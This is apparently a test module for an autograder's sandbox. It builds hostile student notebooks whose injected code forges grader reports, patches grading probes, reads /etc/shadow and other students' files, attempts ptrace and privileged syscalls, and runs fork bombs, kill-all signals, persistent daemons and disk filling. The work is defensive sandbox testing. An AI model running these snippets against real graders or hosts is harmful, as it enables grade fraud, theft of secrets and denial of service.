"""The adversarial corpus: hostile submissions and the grade their honest content deserves.

Each case is a student notebook made like the examples (examples/catalogue.py): the
instructor's solution in the release, edited. Most hostile cases also carry one honest mistake
(the ReLU derivative returns 1 everywhere: the ``relu`` check, 6 points) so that a hostile trick
that *worked* would show up as points the student did not earn.

``fails`` is the exact set of checks the case must fail, ``status`` its grade-all status, and
``reason`` a text its CSV reason must contain ("" when none is expected); ``also`` lists other
acceptable (status, reason) pairs for the same score.

Many attacks (ATTACKS) end with ``WIN``: when the attack got through (it read a course file, reached
the network, wrote outside its sandbox...), the case fixes its own ReLU derivative, so a successful
attack shows up as 6 points it did not earn. The forgeries report a correct ReLU directly. Where an
attack works today, its expectation is still the safe outcome: the test fails and shows it.
LAYOUT cases are not notebook content but the shape of the class folder (symlinks, hard links,
odd names), built by ``write_corpus``.

    python -m tests.adversarial.corpus DIR    # writes DIR/<case>/mlp/mlp.ipynb for a look by hand
"""
import json
import os
import sys
from dataclasses import dataclass, field

import nbformat

from examples.catalogue import BY_NAME, Example, build

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
WRONG_RELU = BY_NAME["relu_derivative_all_ones"].edits["activations"]
TOP = {"activations": "class ReLU:", "sgd": "class SGD:", "train": "def train(", "evaluate": "def evaluate("}


@dataclass(frozen=True)
class Case:
    name: str
    description: str
    code: dict = field(default_factory=dict)      # grade_id -> code inserted at the top of that solution cell
    wrong_relu: bool = True                       # carry the honest ReLU mistake
    fails: frozenset = frozenset({"relu"})
    status: str = "graded"
    reason: str = ""
    tamper: str = ""                              # a change to the notebook's test cells / metadata / bytes
    raw: bytes | None = None                      # the file's bytes, for the not-a-notebook cases
    edits: dict = field(default_factory=dict)     # grade_id -> [(old, new)] as in examples/catalogue.py
    layout: str = ""                              # how write_corpus lays out the student's folder (links)
    also: tuple = ()                              # other acceptable (status, reason), same score and fails


def _at_top(cell, code):
    anchor = TOP[cell]
    return [(anchor, code.rstrip() + "\n\n\n" + anchor)]


def notebook_bytes(case, results_file=None, class_dir=None):
    """The case's notebook file. `results_file`: the path grade-all will write this student's
    results.json to (the fake-results case tries to write it); `class_dir`: the class folder."""
    if case.raw is not None:
        return case.raw
    edits = {cell: list(pairs) for cell, pairs in case.edits.items()}
    if case.wrong_relu:
        edits["activations"] = edits.get("activations", []) + list(WRONG_RELU)
    for cell, code in case.code.items():
        code = code.replace("RESULTS_FILE", repr(results_file or "/nonexistent")).replace("ROOT", repr(ROOT))
        code = code.replace("CLASSDIR", repr(class_dir or "/nonexistent"))
        edits[cell] = edits.get(cell, []) + _at_top(cell, code)
    nb = nbformat.reads(build(Example(case.name, "wrong", case.description, edits)), as_version=4)
    tests = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]
    if case.tamper == "delete_tests":
        nb.cells = [c for c in nb.cells if c not in tests]
    elif case.tamper == "edit_tests":
        for cell in tests:
            cell.source = "print('all tests passed')"
    elif case.tamper == "duplicate_tests":
        index = nb.cells.index(tests[0])
        copies = [json.loads(json.dumps(c)) for c in tests]
        for copy in copies:
            copy["id"] = "dup-" + copy.get("id", "")[:20]
        nb.cells[index:index] = [nbformat.from_dict(c) for c in copies]
    elif case.tamper == "retype_tests":
        for cell in tests:
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    elif case.tamper == "metadata":
        for cell in nb.cells:
            meta = cell.metadata.get("nbgrader")
            if meta and meta.get("grade"):
                meta["points"] = 1000
                meta["locked"] = False
            if meta and meta.get("solution"):
                meta["grade"], meta["points"] = True, 1000
    return nbformat.writes(nb).encode()



# --- attack snippets ------------------------------------------------------------------------------
# Placeholders replaced in notebook_bytes: RESULTS_FILE, ROOT, CLASSDIR (the class folder), NAMES (the
# check names, in grading order). WIN: what a case does when its attack succeeded: it fixes its own
# ReLU derivative, so a successful attack shows up as the 6 points of the `relu` check.
CHECK_NAMES = ("relu", "sigmoid", "forward_appendix_a", "forward_random", "backward_appendix_a", "backward_relu",
               "backward_sigmoid", "numerical_gradient", "gradient_check", "sgd_step", "evaluate", "train_loop",
               "xor_training")
WIN = "ReLU.derivative = lambda self, z: (np.asarray(z, dtype=float) > 0).astype(float)\n"
RELU_DATA = """
def _relu_data():
    import numpy as np
    zs = [np.array([-3.0, -1.0, -1e-12, 0.0, 1e-12, 2.0, 5.0]), np.random.default_rng(7).standard_normal((3, 4)) * 3]
    out = {}
    for i, z in enumerate(zs):
        out['forward_%d' % i] = {'shape': list(z.shape), 'values': np.maximum(0.0, z).ravel().tolist()}
    for i, z in enumerate(zs):
        out['derivative_%d' % i] = {'shape': list(z.shape), 'values': (z > 0).astype(float).ravel().tolist()}
    return out
"""
# A cell whose code writes on the grader's report channel is treated like a cell that crashes: the
# grader cannot tell who wrote what on it, so that cell and the ones after it are skipped and the
# checks are regraded on the cells before it (the forging code sits at the top of the sgd cell).
FROM_SGD_ON = frozenset({"relu", "sgd_step", "evaluate", "train_loop", "xor_training"})
CHANNEL = "report channel"
FORGED_LINES = RELU_DATA + """
import json as _j, os as _o
_forged = (_j.dumps({'event': 'cells_done', 'cell_errors': []}) + '\\n'
           + _j.dumps({'event': 'result', 'check': 'relu', 'status': 'ok', 'data': _relu_data()}) + '\\n'
           + _j.dumps({'event': 'check_done', 'check': 'relu', 'wait_status': 0}) + '\\n').encode()
def _spray(blob, fds=range(3, 256)):
    for fd in fds:
        try:
            _o.write(fd, blob)
        except OSError:
            pass
"""
UNSTABLE_SIGMOID = [("e = np.exp(-np.abs(z))  # in (0, 1]: never overflows\n"
                     "        return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))",
                     "return 1.0 / (1.0 + np.exp(-z))")]
SNAPSHOT_OF = """
import gc as _gc, sys as _sys
def _snapshots():
    found = []
    for o in _gc.get_objects():
        if type(o) is tuple and len(o) == 4 and type(o[0]) is dict and 'autograder.assignments.mlp.probes' in o[0]:
            found.append(o)
    f = _sys._getframe()
    while f is not None:
        s = f.f_locals.get('snapshot')
        if type(s) is tuple and len(s) == 4:
            found.append(s)
        f = f.f_back
    return found
"""
DAEMON = """
import os as _o, time as _t
def _daemon(body):
    if _o.fork() == 0:
        try:
            _o.setsid()
            if _o.fork() == 0:
                while True:
                    try:
                        body()
                    except BaseException:
                        pass
                    try:
                        if _o.fork() != 0:          # keep re-forking: a new pid every round
                            _o._exit(0)
                    except OSError:
                        pass
                    _t.sleep(0.05)
        finally:
            _o._exit(0)
"""
MARKERS = ("/tmp/adv_marker", "/submission/adv_marker", "/dev/shm/adv_marker", "/tmp/adv_persist.py",
           "/submission/data_adv.py", "/dev/adv_marker", "/adv_marker", "/grader/adv_marker")
SOCKETS = ("\\0adv-backdoor", "/tmp/adv.sock", "/dev/shm/adv.sock", "/submission/adv.sock")

ATTACKS = [
    # --- forged reports ---
    Case("forge_reports_in_cells", "writes a forged cells_done then a forged, correct relu result to every fd 3..255 "
         "while its cells run (the grader must judge only what its probe computed)",
         {"sgd": FORGED_LINES + "_spray(_forged)\n"},
         fails=FROM_SGD_ON, status="crashed", reason=CHANNEL),
    Case("forge_reports_thread", "writes forged relu results to every fd, then a background thread of the cells process keeps writing them "
         "to every open fd while the checks run",
         {"sgd": FORGED_LINES + "import threading as _th, time as _t\n"
                 "_one = (_j.dumps({'event': 'result', 'check': 'relu', 'status': 'ok', 'data': _relu_data()}) + '\\n').encode()\n"
                 "def _loop():\n    while True:\n        _spray(_one, range(3, 64))\n        _t.sleep(0.001)\n"
                 "_spray(_one, range(3, 64))\n_th.Thread(target=_loop, daemon=True).start()\n"},
         fails=FROM_SGD_ON, status="crashed", reason=CHANNEL),
    Case("forge_reports_forked", "writes forged relu results and check_done events to every fd, then a forked child "
         "keeps writing them",
         {"sgd": FORGED_LINES + "import time as _t\n"
                 "_one = (_j.dumps({'event': 'result', 'check': 'relu', 'status': 'ok', 'data': _relu_data()}) + '\\n'\n"
                 "        + _j.dumps({'event': 'check_done', 'check': 'relu', 'wait_status': 0}) + '\\n').encode()\n"
                 "_spray(_one, range(3, 64))\n"
                 "if _o.fork() == 0:\n    while True:\n        _spray(_one, range(3, 64))\n        _t.sleep(0.001)\n"},
         fails=FROM_SGD_ON, status="crashed", reason=CHANNEL),
    Case("forge_garbage_to_fds", "writes deeply nested JSON, garbage and a 9 MB line to every fd in the evaluate cell",
         {"evaluate": "import os as _o\n"
                      "for _blob in [b'[' * 100000 + b']' * 100000 + b'\\n', b'\\xff\\xfe garbage\\n', b'{' * (9 << 20) + b'\\n']:\n"
                      "    for _fd in range(3, 256):\n        try:\n            _o.write(_fd, _blob)\n"
                      "        except OSError:\n            pass\n"},
         fails=frozenset({"relu", "evaluate", "train_loop", "xor_training"}), status="crashed", reason="garbled"),
    Case("close_all_fds", "closes every fd 3..255 in the evaluate cell (the report pipe among them)",
         {"evaluate": "import os as _o\n_o.closerange(3, 256)\n"},
         fails=frozenset({"relu", "evaluate", "train_loop", "xor_training"}), status="crashed", reason="evaluate"),
    Case("forge_cell_start", "claims (a forged cell_start event for the setup cell) that another cell is running, "
                             "then kills its process in the evaluate cell: only the evaluate cell may be blamed",
         {"evaluate": "import os as _o, json as _j\n"
                      "for _fd in range(3, 256):\n    try:\n"
                      "        _o.write(_fd, (_j.dumps({'event': 'cell_start', 'index': 0}) + '\\n').encode())\n"
                      "    except OSError:\n        pass\n"
                      "_o._exit(0)\n"},
         fails=frozenset({"relu", "evaluate", "train_loop", "xor_training"}), status="crashed",
         reason="while running cell 'evaluate'"),
    # --- patched grader code in the sandbox ---
    Case("patch_probe_code", "replaces autograder.assignments.mlp.probes.activation_probe's __code__ and __defaults__ "
                             "(a code object survives the module restore) to report a correct ReLU",
         {"sgd": RELU_DATA + "import sys as _sys, types as _types\n_p = _sys.modules['autograder.assignments.mlp.probes']\n"
                 "_orig = _types.FunctionType(_p.activation_probe.__code__, _p.activation_probe.__globals__)\n"
                 "def _fake(ns, class_name, key, _orig=_orig, _data=_relu_data):\n"
                 "    return _data() if key == 'relu' else _orig(ns, class_name, key)\n"
                 "_p.activation_probe.__code__ = _fake.__code__\n_p.activation_probe.__defaults__ = (_orig, _relu_data)\n"}),
    # The next cases change what the sandbox reports, from inside the student's own process, to outputs
    # their own code computes (np.maximum(0, z), z > 0 on the inputs they read from the sandbox's copy of
    # probes.py). Every byte from the sandbox is a claim of the student's code (README, threat model):
    # such a claim earns points only when it is the correct output for every input the grader judges,
    # i.e. when the hidden code is a correct ReLU. These compute it for the old, array-only inputs; the
    # grader now also judges scalars and whether z is left unchanged, so they get what their ReLU class
    # deserves. No claim gets points for outputs nobody computed: see tests/test_judges_forgery.py.
    Case("patch_restore", "disables the runner's _restore (its __code__ and its name in __main__), then swaps "
                          "the relu probe in PROBES for one returning correct ReLU outputs it computes",
         {"sgd": RELU_DATA + "import sys as _sys\n_m = _sys.modules['__main__']\n"
                 "try:\n    _m._restore.__code__ = (lambda snapshot: None).__code__\nexcept Exception:\n    pass\n"
                 "_m.__dict__['_restore'] = lambda snapshot: None\n"
                 "_sys.modules['autograder.assignments.mlp.probes'].PROBES['relu'] = lambda ns, inputs, _d=_relu_data: _d()\n"}),
    Case("patch_snapshot", "edits the runner's saved snapshot (found with gc and sys._getframe) so the restore "
                           "itself installs a forged relu probe",
         {"sgd": RELU_DATA + SNAPSHOT_OF + "_fake = lambda ns, inputs, _d=_relu_data: _d()\n"
                 "_p = _sys.modules['autograder.assignments.mlp.probes']\n"
                 "for _s in _snapshots():\n"
                 "    try:\n        _s[1]['autograder.assignments.mlp.probes']['probe_relu'] = _fake\n"
                 "        for _table, _saved in _s[3]:\n            if _table is _p.PROBES:\n                _saved['relu'] = _fake\n"
                 "    except Exception:\n        pass\n_p.PROBES['relu'] = _fake\n"}),
    Case("patch_json_dumps", "replaces json.dumps's __code__ (the runner reports with it) to rewrite the relu result",
         {"sgd": RELU_DATA + "import json as _json\n"
                 "def _dumps(obj, *, skipkeys=False, ensure_ascii=True, check_circular=True, allow_nan=True, cls=None,\n"
                 "           indent=None, separators=None, default=None, sort_keys=False, _data=None, _enc=None, **kw):\n"
                 "    if type(obj) is dict and obj.get('check') == 'relu' and obj.get('event') == 'result':\n"
                 "        obj = dict(obj, status='ok', data=_data())\n"
                 "    return _enc(skipkeys=skipkeys, ensure_ascii=ensure_ascii, check_circular=check_circular,\n"
                 "                       allow_nan=allow_nan, indent=indent, separators=separators, default=default,\n"
                 "                       sort_keys=sort_keys).encode(obj)\n"
                 "_kw = dict(_json.dumps.__kwdefaults__, _data=_relu_data, _enc=_json.JSONEncoder)\n"
                 "_json.dumps.__code__ = _dumps.__code__\n_json.dumps.__kwdefaults__ = _kw\n"}),
    Case("honest_unstable_sigmoid", "an honest neighbour with two mistakes: the ReLU derivative and a sigmoid that "
                                    "overflows (exp of 1e4)", edits={"activations": UNSTABLE_SIGMOID},
         fails=frozenset({"relu", "sigmoid"})),
    Case("patch_errstate", "the unstable sigmoid, plus np.errstate's __enter__ patched away so the probe's "
                           "overflow check never fires (numpy classes are not restored)",
         {"sgd": "np.errstate.__enter__ = lambda self: None\nnp.errstate.__exit__ = lambda self, *a: None\n"
                 "np.seterr(all='ignore')\n"},
         edits={"activations": UNSTABLE_SIGMOID}, fails=frozenset({"relu", "sigmoid"})),
    Case("patch_ndarray_tolist", "patches np.ndarray.tolist through its type dict (gc.get_referents + "
                                 "PyType_Modified) to report a correct ReLU derivative",
         {"sgd": "import gc as _gc, ctypes as _c\n_d = _gc.get_referents(np.ndarray.__dict__)[0]\n"
                 "_orig_tolist = np.ndarray.tolist\n"
                 "_zs = [np.array([-3.0, -1.0, -1e-12, 0.0, 1e-12, 2.0, 5.0]), np.random.default_rng(7).standard_normal((3, 4)) * 3]\n"
                 "def _tolist(self, _o=_orig_tolist, _zs=_zs):\n"
                 "    out = _o(self)\n"
                 "    for z in _zs:\n"
                 "        if self.size == z.size and self.size in (7, 12) and out == [1.0] * z.size:\n"
                 "            return (z > 0).astype(float).ravel().tolist()\n"
                 "    return out\n"
                 "_d['tolist'] = _tolist\n_c.pythonapi.PyType_Modified(_c.py_object(np.ndarray))\n"}),
    # --- processes, /proc, signals, fds ---
    Case("ptrace_and_proc", "ptrace-attaches to every pid it can see and to 1..100, writes /proc/<pid>/mem, reads "
                            "environ/cmdline and /proc/1/root; wins if it sees anything of the host",
         {"sgd": "import ctypes as _c, os as _o\n_libc = _c.CDLL(None, use_errno=True)\n_won = False\n"
                 "_pids = set(range(1, 101)) | {int(p) for p in _o.listdir('/proc') if p.isdigit()}\n"
                 "for _pid in sorted(_pids):\n"
                 "    if _pid == _o.getpid():\n        continue\n"
                 "    if _libc.ptrace(16, _pid, 0, 0) == 0:\n        _won = True\n        _libc.ptrace(17, _pid, 0, 0)\n"
                 "    for _what in ('environ', 'cmdline'):\n"
                 "        try:\n            _text = open(f'/proc/{_pid}/{_what}', 'rb').read()\n"
                 "            _won = _won or b'bwrap' in _text or b'pytest' in _text or b'autograder.runner' in _text\n"
                 "        except OSError:\n            pass\n"
                 "    try:\n        with open(f'/proc/{_pid}/mem', 'r+b', buffering=0) as _f:\n"
                 "            _f.seek(0x400000)\n            _f.write(b'\\xcc')\n            _won = True\n"
                 "    except (OSError, ValueError, OverflowError):\n        pass\n"
                 "for _p in ['/proc/1/root' + ROOT + '/autograder/judges.py', '/proc/1/root/etc/shadow', '/proc/1/root/etc/passwd',\n"
                 "           '/proc/self/root' + ROOT + '/source', '/proc/1/cwd/../..' + ROOT + '/src']:\n"
                 "    _won = _won or _o.path.exists(_p)\n"
                 "_won = _won or len([p for p in _o.listdir('/proc') if p.isdigit()]) > 1\n"
                 "if _won:\n    " + WIN}),
    Case("kill_everything", "os.kill(-1, SIGKILL), SIGKILL to every pid 1..1000 and every process group but its own",
         {"sgd": "import os as _o, signal as _sig\n"
                 "for _f in (lambda: _o.kill(-1, _sig.SIGKILL), lambda: _o.kill(1, _sig.SIGKILL)):\n"
                 "    try:\n        _f()\n    except OSError:\n        pass\n"
                 "for _pid in range(2, 1001):\n"
                 "    if _pid != _o.getpid():\n"
                 "        for _k in (_o.kill, _o.killpg):\n"
                 "            try:\n                _k(_pid, _sig.SIGKILL)\n            except OSError:\n                pass\n"}),
    Case("inherited_fds", "enumerates /proc/self/fd and reads every fd it inherited (non-blocking); wins if one "
                          "is a file of the host or has data",
         {"sgd": "import os as _o, fcntl as _fc\n_won = False\n"
                 "for _fd in sorted(int(f) for f in _o.listdir('/proc/self/fd')):\n"
                 "    try:\n        _target = _o.readlink(f'/proc/self/fd/{_fd}')\n    except OSError:\n        continue\n"
                 "    if _target.startswith(('/work', '/root', '/home', '/etc', '/tmp/pytest')):\n        _won = True\n"
                 "    try:\n        _flags = _fc.fcntl(_fd, _fc.F_GETFL)\n        _fc.fcntl(_fd, _fc.F_SETFL, _flags | _o.O_NONBLOCK)\n"
                 "        try:\n            if _fd > 2 and _o.read(_fd, 1 << 16):\n                _won = True\n"
                 "        finally:\n            _fc.fcntl(_fd, _fc.F_SETFL, _flags)\n"
                 "    except OSError:\n        pass\n"
                 "if _won:\n    " + WIN}),
    # --- shared memory, sockets, network ---
    Case("shared_memory", "multiprocessing.shared_memory, /dev/shm files, SysV shmget and memfd_create via ctypes, "
                          "os.memfd_create; wins if a blocked kind of memory can be had",
         {"sgd": "import ctypes as _c, os as _o\n_libc = _c.CDLL(None, use_errno=True)\n_won = False\n"
                 "try:\n    from multiprocessing import shared_memory as _shm\n"
                 "    _block = _shm.SharedMemory(name='adv_shm', create=True, size=4 << 20)\n    _block.buf[:4] = b'adv!'\n"
                 "except Exception:\n    pass\n"
                 "try:\n    import mmap as _mm\n    _fd = _libc.shm_open(b'/adv_shm2', 0o100 | 2, 0o600)\n"
                 "    if _fd >= 0:\n        _o.ftruncate(_fd, 4 << 20)\n        _map = _mm.mmap(_fd, 4 << 20)\n        _map[:4] = b'adv!'\n"
                 "except Exception:\n    pass\n"
                 "try:\n    open('/dev/shm/adv_marker', 'w').write('adv')\nexcept OSError:\n    pass\n"
                 "_won = _won or _libc.syscall(29, 0, 64 << 20, 0o1000 | 0o600) >= 0        # shmget(IPC_PRIVATE)\n"
                 "_won = _won or _libc.syscall(319, b'adv', 0) >= 0                          # memfd_create\n"
                 "_won = _won or _libc.syscall(68, 0, 0o1000 | 0o600) >= 0                    # msgget\n"
                 "try:\n    _o.memfd_create('adv')\n    _won = True\nexcept (OSError, AttributeError):\n    pass\n"
                 "if _won:\n    " + WIN}),
    Case("persist_a_listen", "listens on an abstract unix socket and socket files in /tmp, /dev/shm and "
                             "/submission from a double-forked, re-forking daemon, and leaves marker files for the "
                             "next student (persist_b_connect)",
         {"sgd": DAEMON + "import socket as _so\n_socks = []\n"
                 "for _addr in " + repr(SOCKETS) + ":\n"
                 "    try:\n        _s = _so.socket(_so.AF_UNIX, _so.SOCK_STREAM)\n        _s.bind(_addr.replace('\\\\0', '\\0'))\n"
                 "        _s.listen(5)\n        _s.setblocking(False)\n        _socks.append(_s)\n    except OSError:\n        pass\n"
                 "def _serve():\n"
                 "    for _path in " + repr(MARKERS) + ":\n"
                 "        try:\n            open(_path, 'w').write('adv')\n        except OSError:\n            pass\n"
                 "    for _s in _socks:\n"
                 "        try:\n            _s.accept()[0].sendall(b'adv')\n        except OSError:\n            pass\n"
                 "_serve()\n_daemon(_serve)\n"}),
    Case("persist_b_connect", "connects to the sockets and reads the markers persist_a_listen left (it may run next in "
                              "the same worker); wins if anything is there",
         {"sgd": "import socket as _so, os as _o\n_won = False\n"
                 "for _addr in " + repr(SOCKETS) + ":\n"
                 "    try:\n        _s = _so.socket(_so.AF_UNIX, _so.SOCK_STREAM)\n        _s.settimeout(0.5)\n"
                 "        _s.connect(_addr.replace('\\\\0', '\\0'))\n        _won = True\n    except OSError:\n        pass\n"
                 "for _path in " + repr(MARKERS) + " + ('/dev/shm/adv_shm',):\n"
                 "    _won = _won or _o.path.exists(_path)\n"
                 "if _won:\n    " + WIN}),
    Case("network", "TCP to 127.0.0.1 and to likely host addresses, UDP DNS queries, getaddrinfo, a listening "
                    "TCP port; wins if anything gets through",
         {"sgd": "import socket as _so\n_won = False\n"
                 "for _host, _port in [('127.0.0.1', 22), ('127.0.0.1', 80), ('127.0.0.1', 8888), ('10.0.2.2', 80),\n"
                 "                     ('172.17.0.1', 80), ('192.168.1.1', 80), ('8.8.8.8', 53), ('1.1.1.1', 443)]:\n"
                 "    try:\n        _c = _so.socket()\n        _c.settimeout(0.3)\n        _c.connect((_host, _port))\n        _won = True\n"
                 "    except Exception:\n        pass\n"
                 "try:\n    _u = _so.socket(_so.AF_INET, _so.SOCK_DGRAM)\n    _u.settimeout(0.3)\n"
                 "    _u.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01', ('8.8.8.8', 53))\n"
                 "    _u.recvfrom(512)\n    _won = True\nexcept Exception:\n    pass\n"
                 "try:\n    _so.getaddrinfo('example.com', 80)\n    _won = True\nexcept Exception:\n    pass\n"
                 "try:\n    _l = _so.socket()\n    _l.bind(('0.0.0.0', 8765))\n    _l.listen()\nexcept Exception:\n    pass\n"
                 "if _won:\n    " + WIN}),
    # --- core dumps, the filesystem ---
    Case("core_dump", "raises RLIMIT_CORE and calls os.abort() in the evaluate cell (no core file may appear)",
         {"evaluate": "import os as _o, resource as _r\n"
                      "try:\n    _r.setrlimit(_r.RLIMIT_CORE, (_r.RLIM_INFINITY, _r.RLIM_INFINITY))\nexcept (ValueError, OSError):\n    pass\n"
                      "_o.abort()\n"},
         fails=frozenset({"relu", "evaluate", "train_loop", "xor_training"}), status="crashed",
         reason="died while running cell 'evaluate'"),
    Case("read_secrets", "reads /etc/shadow, home folders, the course's files, other students' notebooks and "
                         "results; wins if any of them is readable",
         {"sgd": "import os as _o\n_won = False\n_results = _o.path.dirname(_o.path.dirname(RESULTS_FILE))\n"
                 "for _p in ['/etc/shadow', '/etc/passwd', '/root/.bash_history', '/root/.pyenv/version',\n"
                 "           ROOT + '/gradebook.db', ROOT + '/autograder/judges.py', ROOT + '/autograder/hints.py',\n"
                 "           ROOT + '/src/activations.py', ROOT + '/source/mlp/mlp.ipynb', ROOT + '/tests/conftest.py',\n"
                 "           CLASSDIR + '/honest_perfect/mlp/mlp.ipynb', _results + '/honest_perfect/results.json',\n"
                 "           '/grader/autograder/judges.py', '/proc/1/root/etc/shadow', '/../../etc/shadow']:\n"
                 "    try:\n        open(_p, 'rb').read(1)\n        _won = True\n    except OSError:\n        pass\n"
                 "import sys as _sys\n"
                 "_mine = {p for prefix in (_sys.prefix, _sys.base_prefix, _sys.exec_prefix) for p in prefix.split('/')}\n"
                 "for _d in ['/home', '/root', ROOT, CLASSDIR, _results]:\n"
                 "    try:\n        _won = _won or bool(set(_o.listdir(_d)) - _mine)   # more than the interpreter's folders\n"
                 "    except OSError:\n        pass\n"
                 "if _won:\n    " + WIN}),
    Case("write_outside", "writes everywhere outside /submission and /tmp: /, /usr, the grader modules, the course, "
                          "the class folder, the results; wins if one write lands",
         {"sgd": "import os as _o\n_won = False\n_results = _o.path.dirname(_o.path.dirname(RESULTS_FILE))\n"
                 "for _p in ['/adv_marker', '/usr/adv_marker', '/grader/autograder/probes.py', '/grader/adv_marker',\n"
                 "           '/etc/adv_marker', '/proc/sys/kernel/core_pattern', '/proc/1/root/adv_marker',\n"
                 "           ROOT + '/adv_marker', ROOT + '/autograder/judges.py', CLASSDIR + '/honest_perfect/mlp/mlp.ipynb',\n"
                 "           CLASSDIR + '/adv_marker', _results + '/honest_perfect/results.json', RESULTS_FILE]:\n"
                 "    try:\n        with open(_p, 'a') as _f:\n            _f.write('ADVERSARIAL-MARKER')\n        _won = True\n"
                 "    except OSError:\n        pass\n"
                 "if _won:\n    " + WIN}),
    Case("privileged_syscalls", "setuid files, mknod, mount, umount, unshare, setns, chroot, pivot_root, setuid(0) via "
                                "ctypes; wins if one succeeds",
         {"sgd": "import ctypes as _c, os as _o, stat as _st\n_libc = _c.CDLL(None, use_errno=True)\n_won = False\n"
                 "try:\n    open('/tmp/adv_suid', 'w').close()\n    _o.chmod('/tmp/adv_suid', 0o4755)\nexcept OSError:\n    pass\n"
                 "try:\n    _o.mknod('/tmp/adv_null', 0o666 | _st.S_IFCHR, _o.makedev(1, 3))\n    _won = True\nexcept OSError:\n    pass\n"
                 "_calls = [lambda: _libc.mount(b'tmpfs', b'/tmp', b'tmpfs', 0, None),\n"
                 "          lambda: _libc.mount(b'/', b'/tmp', None, 0x1000, None),\n"
                 "          lambda: _libc.umount2(b'/proc', 2), lambda: _libc.umount2(b'/submission', 2),\n"
                 "          lambda: _libc.unshare(0x10000000), lambda: _libc.unshare(0x20000),\n"
                 "          lambda: _libc.setns(_o.open('/proc/self/ns/mnt', _o.O_RDONLY), 0),\n"
                 "          lambda: _libc.chroot(b'/tmp'), lambda: _libc.syscall(155, b'/tmp', b'/tmp'),\n"
                 "          lambda: _libc.setuid(0), lambda: _libc.setgid(0)]\n"
                 "for _call in _calls:\n"
                 "    try:\n        if _call() == 0:\n            _won = True\n    except OSError:\n        pass\n"
                 "if _won:\n    " + WIN}),
    # --- persistence ---
    Case("daemon_reforker", "a setsid, double-forked daemon that re-forks every 50 ms, forever, writing into /tmp "
                            "and /submission for the next student",
         {"activations": DAEMON + "def _body():\n"
                                  "    for _p in ('/tmp/adv_persist.py', '/submission/data_adv.py', '/dev/adv_persist.py'):\n"
                                  "        try:\n            open(_p, 'w').write('raise SystemExit')\n        except OSError:\n            pass\n"
                                  "_daemon(_body)\n"}),
    # --- resources ---
    Case("fork_bomb", "a fork bomb in the evaluate cell: every process forks until the process limit, and keeps trying",
         {"evaluate": "import os as _o, time as _t\n"
                      "def _bomb():\n    while True:\n        try:\n            _o.fork()\n        except OSError:\n"
                      "            _t.sleep(0.05)\n"
                      "for _i in range(200):\n    try:\n        if _o.fork() == 0:\n            _bomb()\n"
                      "    except OSError:\n        break\n"},
         ),                       # killed after the cells (pid 1 empties the namespace): every check runs
    Case("thread_bomb", "starts sleeping threads until the process limit refuses more, in the sgd cell",
         {"sgd": "import threading as _th, time as _t\n_threads = []\n"
                 "while len(_threads) < 10000:\n"
                 "    try:\n        _x = _th.Thread(target=_t.sleep, args=(600,), daemon=True)\n        _x.start()\n"
                 "        _threads.append(_x)\n    except (RuntimeError, MemoryError):\n        break\n"}),
    Case("memory_spread", "forks 8 children that each touch 200 MB (under the per-process limit, 1.6 GB together) "
                          "and sleep; the cell waits until they all hold it",
         {"evaluate": "import os as _o, time as _t\n_r, _w = _o.pipe()\n"
                      "for _i in range(8):\n    if _o.fork() == 0:\n        _x = bytearray(200 << 20)\n"
                      "        for _k in range(0, len(_x), 4096):\n            _x[_k] = 1\n        _o.write(_w, b'.')\n"
                      "        _t.sleep(600)\n        _o._exit(0)\n"
                      "_got = b''\nwhile len(_got) < 8:\n    _got += _o.read(_r, 8)\n_t.sleep(3)\n"},
         fails=frozenset({"relu", "evaluate", "train_loop", "xor_training"}), status="crashed", reason="memory limit"),
    Case("dev_filler", "writes 1.5 GB of 15 MB files into /dev (the fork server's own tmpfs, outside every "
                       "per-submission limit and kept for the next students); wins if it all fits",
         {"sgd": "import os as _o\n_held = 0\n_block = b'x' * (15 << 20)\n"
                 "for _i in range(100):\n    try:\n        with open(f'/dev/adv_fill_{_i}', 'wb') as _f:\n"
                 "            _f.write(_block)\n        _held += 15\n    except OSError:\n        break\n"
                 "del _block\n"
                 "if _held > 1024:\n    " + WIN}),
    Case("cpu_burn_children", "forks 2 children that burn CPU forever (the checks still run)",
         {"activations": "import os as _o\nfor _i in range(2):\n    if _o.fork() == 0:\n        while True:\n            pass\n"}),
    Case("tmpfs_filler", "fills /tmp, /submission and /dev/shm with 15 MB files until the disk is full",
         {"sgd": "import os as _o\n"
                 "for _d in ('/tmp', '/submission', '/dev/shm'):\n    for _i in range(100):\n"
                 "        try:\n            with open(f'{_d}/adv_fill_{_i}', 'wb') as _f:\n                _f.write(b'x' * (15 << 20))\n"
                 "        except OSError:\n            break\n"}),
]

# --- the class folder's layout: links and odd names (built by write_corpus, not notebook content) ---
LAYOUT = [
    Case("link_notebook_symlink", "mlp/mlp.ipynb is a symlink to honest_perfect's notebook",
         wrong_relu=False, fails=None, status="invalid", reason="symlink", layout="symlink_to_neighbour"),
    Case("link_notebook_to_passwd", "mlp/mlp.ipynb is a symlink to /etc/passwd",
         wrong_relu=False, fails=None, status="invalid", reason="symlink", layout="symlink_to_passwd"),
    Case("link_hardlink_neighbour", "mlp/mlp.ipynb is a hard link to link_victim's notebook (never grade another "
                                    "student's notebook as this student's)",
         wrong_relu=False, fails=None, status="invalid", reason="hard link", layout="hardlink_to_victim"),
    Case("link_hardlink_outside", "mlp/mlp.ipynb is a hard link to a perfect notebook outside the class folder",
         wrong_relu=False, fails=None, status="invalid", reason="hard link", layout="hardlink_outside"),
    Case("link_student_folder", "the student folder is a symlink to honest_perfect's folder",
         wrong_relu=False, fails=None, status="invalid", reason="symlink", layout="symlink_folder"),
    Case("link_mlp_folder", "the mlp/ folder is a symlink to a folder outside the class holding a perfect notebook",
         wrong_relu=False, fails=None, status="invalid", reason="symlink", layout="symlink_mlp"),
    Case("link_extra_files", "its own notebook, plus symlinks next to it (data.py -> the course's src/data.py, "
                             "other.ipynb -> honest_perfect's): only its own notebook is graded", layout="extra_links"),
    Case("link_victim", "the perfect notebook another folder hard-links to (either graded, or refused as a "
                        "hard link: never someone else's grade)", wrong_relu=False, fails=frozenset()),
    Case("name with spaces .. and dots", "an honest wrong-ReLU notebook under a folder name with spaces and '..'"),
]


